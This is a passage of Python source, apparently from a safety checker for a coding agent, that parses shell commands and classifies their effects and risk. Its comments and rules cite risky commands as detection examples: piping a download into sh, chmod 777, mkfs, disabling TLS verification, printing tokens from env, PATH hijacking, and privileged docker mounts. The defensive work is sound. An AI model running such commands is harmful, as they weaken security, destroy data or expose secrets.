            # `chmod +x deploy.sh`: the file's own mode, not access for anyone else
            effects = [Effect("modify", what=text)]
        else:
            # write access for everyone (`777`, `o+w`) is a safety check switched off,
            # which "so my teammate can read it" does not ask for
            effects = [
                Effect(
                    "grant",
                    high_impact=broad or "777" in args,
                    what=text,
                    action="weaken-security" if opens and tool == "chmod" else "",
                )
            ]
    elif tool in ("nc", "ncat", "netcat") and flags & {"z"}:
        # `nc -zv localhost 5432`: whether a port answers, with nothing sent
        effects = [Effect("read", what=text)]
    elif tool in ("scp", "rsync") and _downloads(args):
        # `scp host:/backups/db.sql.gz .`: a copy made here of what another machine holds
        sources = tuple(_operands(args, _COPY_VALUE_FLAGS))
        effects = [Effect("create", "external", what=text, objects=sources[:-1][:8], fetched=True)]
        if any(a.startswith("--delete") for a in args):
            effects.append(Effect("delete", reversible=False, what=text))
    elif tool == "rsync":
        remote = any(":" in o for o in _operands(args))
        effects = (
            [Effect("send", "external", reversible=False, what=text)]
            if remote
            else [Effect("modify", what=text)]
        )
        if any(a.startswith("--delete") or a == "--remove-source-files" for a in args):
            # `--delete`: what the destination holds and the source lacks is gone
            effects.append(Effect("delete", reversible=False, what=text))
    elif tool == "fuser":
        # `fuser -k 3000/tcp`: what holds the port, stopped; without `-k`, only listed
        ports = tuple(re.sub(r"/(?:tcp|udp)$", "", o) for o in _operands(args))[:8]
        kills = bool(flags & {"k", "--kill"})
        effects = [Effect("delete" if kills else "read", reversible=not kills, what=text,
                          objects=ports)]  # fmt: skip
    elif tool in ("kill", "pkill", "killall"):
        init = "1" in args or "-1" in args
        # `pkill -f 'uvicorn app.main:app'` matches fewer processes than `uvicorn` would:
        # what it acts on is the program, narrowed (an alternation, `a|b`, widens it)
        patterns = _operands(args, frozenset(["-u", "-U", "-g", "-G", "-t", "-s", "-P"]))
        head = patterns[0].split()[:1] if len(patterns) == 1 else []  # `pkill -f ""`: none
        program = head[0].rsplit("/", 1)[-1] if head else ""
        narrowed = bool(program) and tool == "pkill" and " " in patterns[0] and "|" not in text
        effects = [
            Effect(
                "delete",
                reversible=False,
                high_impact=init or tool == "killall",
                what=text,
                by_pattern=tool != "kill",
                objects=(program,) if narrowed else (),
            )
        ]
    elif tool == "journalctl":
        # `--vacuum-size`, `--rotate`, `--flush`: the journal itself changed
        changes = any(
            a.startswith(("--vacuum", "--rotate", "--flush", "--relinquish")) for a in args
        )
        effects = [Effect("delete" if changes else "read", what=text)]
    elif tool == "dmesg":
        # the kernel's ring buffer read; `-c`/`-C` clear it, `-n`/`-D`/`-E` set the console
        clears = bool(flags & {"c", "C", "--clear", "--read-clear"})
        sets = bool(flags & {"n", "D", "E", "--console-level", "--console-off", "--console-on"})
        if clears:
            effects = [Effect("delete", reversible=False, what=text)]
        else:
            effects = [Effect("configure" if sets else "read", what=text)]
    elif tool in ("systemctl", "service") and _service_reads(tool, args):
        effects = [Effect("read", what=text)]
    elif tool in ("shutdown", "reboot", "halt", "poweroff", "systemctl", "service", "launchctl"):
        stops = tool not in ("systemctl", "service", "launchctl") or bool(
            {"stop", "disable", "mask", "poweroff", "reboot", "halt", "kill"} & set(args)
        )
        effects = [
            Effect(
                "configure",
                reversible=not stops,
                high_impact=stops,
                what=text,
                action="restart" if _service_restarts(tool, args) else "",
                system=True,
            )
        ]
    elif tool.startswith("mkfs."):
        effects = [Effect("delete", reversible=False, high_impact=True, what=text)]
    elif tool in _BY_TOOL:
        effects = _BY_TOOL[tool](tool, args, text)
    elif tool in _words("read"):
        effects = [Effect("read", what=text)]
    elif tool in _words("routine"):
        effects = _runner(tool, args, text)
    else:
        effects = [Effect("unknown", what=text)]
    if elevated and not _mild_under_sudo(tool, args):
        effects = [
            replace(e, high_impact=e.high_impact or e.kind != "read", routine=False)
            for e in effects
        ]
    return effects


@functools.cache
def _parser() -> Any:
    import tree_sitter_bash
    from tree_sitter import Language, Parser

    return Parser(Language(tree_sitter_bash.language()))


_ARG_NODES = frozenset(
    {"command_name", "word", "string", "raw_string", "number", "concatenation"}
    | {"simple_expansion", "expansion", "ansi_c_string"}
)
_DOUBLE_QUOTED_ESCAPE = re.compile(r'\\([\\"$`])')
#: Outside quotes, a backslash stands for the character after it (`\\'` is `'`).
_ESCAPED = re.compile(r"\\(.)")
_WRITES = frozenset({">", ">>", ">|", "&>", "&>>"})
_HARMLESS_TARGETS = ("/dev/null", "/dev/stderr", "/dev/stdout")
#: Scratch space any program may write: not the user's files, nor their settings.
_SCRATCH = re.compile(r"(?:/tmp|/var/tmp|/dev/null|/dev/stdout|/dev/stderr)(?:/|$)")


def beyond_project(path: str) -> bool:
    """A path past the project a coding agent works in (`~/.bashrc`, `/etc/hosts`,
    `../other-repo`), other than scratch space (`/tmp/out.txt`)."""
    return (path.startswith(("/", "~", "$")) and not _SCRATCH.match(path)) or ".." in re.split(
        r"[\\/]+", path
    )


def _plain_path(word: str) -> str:
    """A file's name as a command or a redirection writes it, without `./`."""
    return word.strip().removeprefix("./")


class _Walk:
    """One pass over a parse tree, collecting effects."""

    def __init__(self, source: bytes, depth: int) -> None:
        self.source = source
        self.depth = depth
        self.effects: list[Effect] = []
        self.errors: list[str] = []

    def text(self, node: Any) -> str:
        return self.source[node.start_byte : node.end_byte].decode("utf-8", "replace")

    def argv(self, node: Any) -> list[str]:
        return [self.value(c) for c in node.children if c.type in _ARG_NODES]

    def value(self, node: Any, depth: int = 0) -> str:
        """A word as the program receives it: quotes taken off, and the pieces of a word
        written in several (`'open('"'"'a.txt'"'"', "w")'`, as `shlex.quote` writes a
        quote) joined."""
        value = self.text(node)
        if node.type in ("string", "raw_string") and len(value) >= 2:
            value = value[1:-1]
        if node.type == "string":  # in double quotes, `\\` `\"` `\$` stand for one
            value = _DOUBLE_QUOTED_ESCAPE.sub(r"\1", value)
        if node.type == "concatenation" and depth < 4 and len(node.children) <= 256:
            parts = [
                _ESCAPED.sub(r"\1", self.text(c)) if c.type == "word" else self.value(c, depth + 1)
                for c in node.children
            ]
            value = "".join(parts)
        return value

    def visit(self, node: Any) -> None:
        if node.type == "pipeline":
            self.pipeline(node)
        elif node.type == "command":
            self.command(node, from_download=False)
            for child in node.children:
                if child.type in ("command_substitution", "process_substitution"):
                    self.visit(child)
        elif node.type == "file_redirect":
            self.redirect(node)
        else:
            if node.type == "redirected_statement":
                self.self_overwrite(node)
            if node.type == "function_definition":
                self.effects.append(Effect("execute", what=self.text(node)[:200]))
            for child in node.children:
                self.visit(child)

    def pipeline(self, node: Any) -> None:
        parts = [c for c in node.children if c.type not in ("|", "|&")]
        downloaded = False
        fed: list[str] = []  # what the command before prints, as its words ask for it
        for part in parts:
            if part.type == "command":
                self.command(part, from_download=downloaded, fed=fed)
                argv = self.argv(part)
                head = (argv[:1] or [""])[0].rsplit("/", 1)[-1]
                downloaded = downloaded or head in ("curl", "wget", "fetch")
                fed = argv
            else:
                self.visit(part)
                fed = []

    def self_overwrite(self, node: Any) -> None:
        """`sort names.txt > names.txt`: the shell empties the file before the command
        reads it, so what it held is lost, whatever the command does."""
        targets = [
            _plain_path(self.value(c))
            for r in node.children
            if r.type == "file_redirect" and any(c.type in (">", ">|", "&>") for c in r.children)
            for c in r.children
            if c.type in _ARG_NODES
        ]
        if not targets:
            return
        inputs: set[str] = set()
        stack = [c for c in node.children if c.type != "file_redirect"]
        while stack and len(inputs) < 256:
            child = stack.pop()
            if child.type == "command":
                inputs |= {_plain_path(a) for a in self.argv(child)[1:64] if not a.startswith("-")}
            elif child.type in ("pipeline", "list", "subshell", "compound_statement"):
                stack.extend(child.children[:64])
        for target in targets:
            if target and target in inputs:
                self.effects.append(
                    Effect(
                        "delete",
                        reversible=False,
                        what=f"> {target} empties it before the command reads it",
                        objects=(target,),
                    )
                )

    def redirect(self, node: Any) -> None:
        op = next((c.type for c in node.children if c.type in _WRITES), None)
        target = next((self.text(c) for c in node.children if c.type in _ARG_NODES), "")
        if op is None or target in _HARMLESS_TARGETS or target.startswith("&"):
            return
        overwrite = op in (">", ">|", "&>")
        # a file written outside the project (`>> ~/.bashrc`) is a name the user must give;
        # one inside it (`> backups/shop.sql`) is the work's own output
        self.effects.append(
            Effect(
                "modify",
                reversible=not overwrite,
                what=f"{op} {target}",
                objects=(target,) if beyond_project(target) else (),
            )
        )

    def command(self, node: Any, *, from_download: bool, fed: Sequence[str] = ()) -> None:
        """`fed`: the command before this one in a pipeline, whose output `xargs` hands on."""
        argv = self.argv(node)
        prefixes, shells = _words("prefixes"), _words("shells")
        elevated = via_xargs = False
        printed = argv[:1] == ["env"]
        while argv and (argv[0] in prefixes or ("=" in argv[0] and not argv[0].startswith("-"))):
            elevated = elevated or argv[0] in ("sudo", "doas")
            via_xargs = via_xargs or argv[0] == "xargs"
            argv = argv[1:]
            while argv and (argv[0].startswith("-") or argv[0].isdigit()):
                argv = argv[1:]  # the prefix's own options (`sudo -u root`, `timeout 5`)
        if not argv:
            if printed:  # `env | grep -i token`: with nothing to run, env prints them all
                self.effects.append(Effect("read", what="env"))
            return
        tool = argv[0].rsplit("/", 1)[-1]
        what = self.text(node)[:200]
        if tool in shells and "-c" in argv[1:]:
            inner = _after(argv, "-c")[:1]
            if inner and self.depth < _MAX_NESTING:
                self._nest(inner[0], lambda e: e)
            else:
                self.effects.append(Effect("unknown", what=what))
            return
        if tool == "ssh":
            host, remote = _ssh_target(argv[1:])
            if remote and self.depth < _MAX_NESTING:
                # `ssh web1 crontab -l`: what runs there, on a machine of the user's; a
                # change there is a change to that machine, which the user must have named
                # (`ssh web-2 sudo systemctl restart nginx` after "… on web-1")
                self._nest(
                    remote,
                    lambda e: replace(
                        e,
                        reach="external",
                        reversible=e.reversible and e.kind == "read",
                        objects=e.objects if e.kind == "read" or not host else (host, *e.objects),
                    ),
                )
            else:  # an interactive session: whatever is typed next
                self.effects.append(Effect("execute", "external", reversible=False, what=what))
            return
        inside = _exec_command(tool, argv[1:])
        if inside is not None:
            # `kubectl exec api-0 -- env`, `docker exec db psql -c …`: what runs in the
            # container, judged as if run here
            pod = tool == "kubectl"
            if not inside or inside.strip() in shells or self.depth >= _MAX_NESTING:
                # whatever is typed next: a person's to watch
                self.effects.append(Effect("unknown", "external" if pod else "local", what=what))
            else:
                self._nest(inside, lambda e: replace(e, reach="external") if pod else e)
            return
        if tool in shells or tool == "eval":
            # `curl … | sh` runs what it downloaded: code nobody has seen
            self.effects.append(
                Effect(
                    "execute",
                    "external" if from_download else "local",
                    reversible=False,
                    high_impact=from_download,
                    what=what,
                )
            )
            return
        effects = classify_command(argv, elevated=elevated)
        if tool in ("kill", "pkill") and not any(e.objects for e in effects):
            # `kill $(lsof -t -i:3000)`, `lsof -ti:3000 | xargs kill`: what is stopped is
            # what the substitution or the command before looks up
            picked = self._substituted(node) or (_looked_up(fed) if via_xargs else ())
            effects = [replace(e, objects=e.objects or picked) for e in effects]
        self.effects.extend(effects)

    def _nest(self, command: str, placed: Callable[[Effect], Effect]) -> None:
        """A command another runs (`sh -c`, `ssh host …`, `docker exec …`), judged as if
        typed here, each effect then `placed` where it runs."""
        nested = shell_effects(command, depth=self.depth + 1)
        self.effects.extend(placed(e) for e in nested.effects)
        if nested.parse_error:
            self.errors.append(nested.parse_error)

    def _substituted(self, node: Any) -> tuple[str, ...]:
        """What a command substitution among a command's arguments looks up."""
        out: list[str] = []
        for child in node.children:
            if child.type == "command_substitution":
                inner = next((c for c in child.children if c.type == "command"), child)
                out += _looked_up(self.argv(inner))
        return tuple(out[:8])


def _looked_up(argv: Sequence[str]) -> tuple[str, ...]:
    """What a lookup command names: its operands, and the value of a flag that names one
    (`-i:3000` names port 3000)."""
    out: list[str] = []
    for part in argv[1:]:
        value = re.sub(r"^-{1,2}[A-Za-z-]*[:=]?", "", part) if part.startswith("-") else part
        if value.strip(":"):
            out.append(value.strip(":"))
    return tuple(out[:8])


#: ssh options that take a value (`-i key`, `-p 2222`): the value is not the host.
_SSH_VALUE_FLAGS = frozenset("bcDEeFIiJLlmOopQRSWw")


def _past_options(args: Sequence[str], takes_value: Callable[[str], bool]) -> int:
    """Where a command's leading options end: the index of its first operand."""
    n = 0
    while n < len(args) and args[n].startswith("-"):
        n += 2 if takes_value(args[n]) else 1
    return n


#: `docker run`'s options that take a value (`-p 8080:80`, `--name api`).
_RUN_VALUE_FLAGS = frozenset(
    ["-p", "--publish", "-v", "--volume", "-e", "--env", "--env-file", "--name", "-w",
     "--workdir", "--network", "--net", "-u", "--user", "--entrypoint", "-m", "--memory",
     "--cpus", "-l", "--label", "--mount", "--add-host", "--hostname", "-h", "--restart",
     "--pull", "--platform", "--device", "--cap-add", "--cap-drop", "--ipc", "--pid",
     "--log-driver", "--log-opt", "--security-opt", "--tmpfs", "--ulimit", "--dns",
     "--gpus", "--shm-size", "--uts", "--userns", "--cgroupns"]
)  # fmt: skip
#: Host namespaces a container may share (`--network host`): it then reaches past itself.
_HOST_SHARED = frozenset(["--net", "--network", "--pid", "--ipc", "--uts", "--userns"])
#: Host folders whose mount hands a container the machine: its root, its configuration,
#: people's homes, the Docker socket (and with it every other container).
_HOST_MOUNT = re.compile(r"^(?:/|/etc|/root|/home|/Users|~|/var/run/docker\.sock)/?$")


def _container_run(args: Sequence[str], text: str) -> Effect:
    """`docker run [options] image [command]`: the image run on this machine, as the image
    the user named; one given the host's root, socket, network or privileges reaches past
    itself."""
    rest = list(args[1:] if args[:1] == ["run"] else args[2:])
    pairs: list[tuple[str, str]] = []
    n = 0
    while n < len(rest) and rest[n].startswith("-"):
        flag, _, value = rest[n].partition("=")
        if not value and flag in _RUN_VALUE_FLAGS and n + 1 < len(rest):
            value, n = rest[n + 1], n + 1
        pairs.append((flag, value))
        n += 1
    image = rest[n] if n < len(rest) else ""
    escapes = any(
        flag == "--privileged"
        or (flag in _HOST_SHARED and value.lower() == "host")
        or (flag == "--cap-add" and value.lower() in ("all", "sys_admin"))
        or (flag in ("-v", "--volume") and bool(_HOST_MOUNT.match(value.split(":", 1)[0])))
        or (
            flag == "--mount"
            and any(
                _HOST_MOUNT.match(part.split("=", 1)[1])
                for part in value.split(",")
                if part.startswith(("source=", "src="))
            )
        )
        for flag, value in pairs
    )
    return Effect(
        "execute",
        "local",
        reversible=not escapes,
        high_impact=escapes,
        what=text,
        objects=(image.rsplit(":", 1)[0],) if image else (),
    )


def _ssh_target(args: Sequence[str]) -> tuple[str, str]:
    """The machine `ssh [options] [user@]host[:port] command…` reaches, by its name, and
    the command it runs there ('' for either when none)."""
    n = _past_options(args, lambda flag: len(flag) == 2 and flag[1] in _SSH_VALUE_FLAGS)
    if n >= len(args):
        return "", ""
    return args[n].rsplit("@", 1)[-1].split(":", 1)[0], " ".join(args[n + 1 :])


#: `docker exec`'s and `kubectl exec`'s options that take a value (`-e KEY=1`, `-c app`).
_EXEC_VALUE_FLAGS = frozenset(
    ["-e", "--env", "--env-file", "-u", "--user", "-w", "--workdir", "--detach-keys", "-c",
     "--container", "-n", "--namespace", "--context", "--kubeconfig", "-f", "--filename"]
)  # fmt: skip


def _exec_command(tool: str, args: Sequence[str]) -> str | None:
    """The command `docker exec [options] container command…` or `kubectl exec [options]
    pod -- command…` runs inside ('' for an interactive shell); None when not an exec."""
    if tool in ("docker", "podman") and args[:1] == ["exec"]:
        rest = list(args[1:])
    elif tool in ("docker", "podman") and args[:2] == ["container", "exec"]:
        rest = list(args[2:])
    elif tool == "kubectl" and args[:1] == ["exec"]:
        # only the `--` form says where the pod ends and the command begins
        return " ".join(shlex.quote(a) for a in _after(args, "--")) if "--" in args else None
    else:
        return None
    n = _past_options(rest, lambda flag: flag in _EXEC_VALUE_FLAGS)
    return " ".join(shlex.quote(a) for a in rest[n + 1 :])


def shell_effects(command: str, *, depth: int = 0) -> CallEffect:
    """Every part of a shell command, classified. Never raises."""
    if len(command) > MAX_COMMAND_CHARS:
        return CallEffect(
            (Effect("unknown", what=command[:80]),),
            "unparsed",
            f"the command is {len(command)} characters; at most {MAX_COMMAND_CHARS} are read",
        )
    source = command.encode("utf-8", "surrogatepass")
    try:
        tree = _parser().parse(source)
    except Exception as exc:  # a parser failure is a verdict's reason, never an exception
        return CallEffect((Effect("unknown", what=command[:80]),), "unparsed", f"shell: {exc}")
    walk = _Walk(source, depth)
    walk.visit(tree.root_node)
    errors = walk.errors
    if tree.root_node.has_error:
        errors = ["the command does not parse as shell", *errors]
    effects = walk.effects or [Effect("unknown" if errors else "read", what=command[:80])]
    # `git config http.sslVerify false`, `export NODE_TLS_REJECT_UNAUTHORIZED=0`: a check
    # switched off by a setting (sed's own substitutions are judged by what they replace)
    effects = [
        replace(e, action="weaken-security")
        if e.kind not in ("read", "unknown")
        and not e.action
        and not e.what.lstrip().startswith("sed")
        and turns_off_checks("", e.what)
        else e
        for e in effects
    ]
    assigned = env_turns_off_checks(command)
    if assigned is not None:
        effects.append(Effect("configure", what=assigned, action="weaken-security"))
    for found in _SEARCH_PATH_SET.finditer(command[:100_000]):
        # `export PATH=/tmp/bin:$PATH`: what runs next is looked up somewhere else first
        effects.append(Effect("configure", what=found.group(0).strip()[:80]))
    return CallEffect(tuple(effects), "shell", "; ".join(errors) or None)
